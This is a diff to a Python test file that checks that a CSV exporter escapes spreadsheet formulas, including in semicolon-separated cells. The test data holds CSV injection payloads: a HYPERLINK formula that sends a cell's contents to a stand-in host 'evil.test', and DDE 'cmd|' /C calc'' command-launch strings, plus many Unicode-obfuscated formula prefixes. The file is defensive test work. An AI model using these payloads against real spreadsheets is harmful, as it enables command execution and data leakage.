@@ -105,6 +105,8 @@ FORMULAS = [
     "\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", "=HYPERLINK(\"http://evil.test\"&A1)", "=cmd|'/C calc'!A0",
     "-2+3+cmd|' /C calc'!A0", "--1", "-", "=", "-inf", "+x", "-1e", "-1 USD", "\tx", "-1\n=1",
     "\u200b=1", "\u2060=1", "\u00ad@x", "\u202e+x",
+    "\x00=1", "\x1b=1", "\x7f=1", "\u180e=1", "\u034f=1", "\ufe0f=1", "\u3164=1", "\U000e0001=1", "\u061c@x",
+    "\ufff9=1", "\ufe66=1", "\ufe62x", "\ufe63x", "\ufe6bx", "\u207c1", "\u3000\u200b=1",
 ]  # fmt: skip
 TEXTS = [
     "a=1", "1+1", "x@y", "'=1", "", "-5", "+5", "-0.5", "-.5", "-1e-3", "-5%", " -5 ", "\u22125 points",
@@ -118,7 +120,13 @@ def test_a_formula_in_csv_is_text(text: str) -> None:
     assert rows == [["name", f"'{text}"], [f"'{text}", "1"]]
 
 
-@pytest.mark.parametrize(("text", "shown"), [("a;=1", "a;'=1"), ("a; @x", "a; '@x"), ("5;-3", "5;-3")])
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [("a;=1", "a;'=1"), ("a; @x", "a; '@x"), ("5;-3", "5;-3"),
+     ("a;\u200b\ufe661", "a;\u200b'\ufe661"), ("a;+cmd|' /C calc'!A0", "a;'+cmd|' /C calc'!A0"),
+     ("a;-1+x", "a;'-1+x"),
+     ("=1;=2", "'=1;'=2"), ("a;'=1", "a;'=1"), ("a; b", "a; b")],
+)  # fmt: skip
 def test_a_formula_behind_a_semicolon_is_text_where_those_part_columns(text: str, shown: str) -> None:
     assert list(csv.reader(io.StringIO(csv_text([["x", text]]), newline=""))) == [["x", shown]]
 
